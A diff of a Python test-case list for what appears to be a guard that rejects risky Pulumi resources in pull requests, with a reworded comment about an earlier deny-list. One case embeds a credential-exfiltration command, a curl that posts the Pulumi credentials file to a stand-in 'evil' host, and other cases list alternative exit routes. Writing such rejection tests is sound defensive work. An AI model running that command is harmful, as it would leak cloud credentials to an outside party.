@@ -130,7 +130,8 @@ CASES = [
     ),
     Case("a local command", PR, "command:local:Command", {"create": "curl -d @$HOME/.pulumi/credentials.json https://evil"}, (NOT_LISTED,)),
     Case("a new Kubernetes provider", PR, K8S_PROVIDER, {"kubeconfig": "apiVersion: v1\n", "namespace": "default"}, (NO_PROVIDER,), name="prod"),
-    # attack: other ways out
+    # other ways out (the GitHub and DigitalOcean rows, and the mislabelled Secret, were refused before by the namespace
+    # rail's deny-list and scope check; the rest passed)
     Case("a GitHub Actions secret", PR, "github:index/actionsSecret:ActionsSecret", {"repository": "r", "secretName": "S"}, (NOT_LISTED,)),
     Case("a DigitalOcean DNS record", PR, "digitalocean:index/dnsRecord:DnsRecord", {"domain": "example.com"}, (NOT_LISTED,)),
     Case("a StackReference to production", PR, "pulumi:pulumi:StackReference", {"name": "acme/secret-chain/production"}, (NOT_LISTED,)),
